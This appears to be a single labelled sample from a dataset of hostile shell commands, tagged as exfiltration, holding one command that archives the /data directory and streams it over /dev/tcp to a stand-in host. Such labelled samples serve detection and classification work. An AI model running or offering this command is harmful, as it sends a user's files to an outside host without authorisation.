# class: exfiltration; possible: low medium; needs: data
cd /data && tar czf - . | cat > /dev/tcp/drop.test/9000
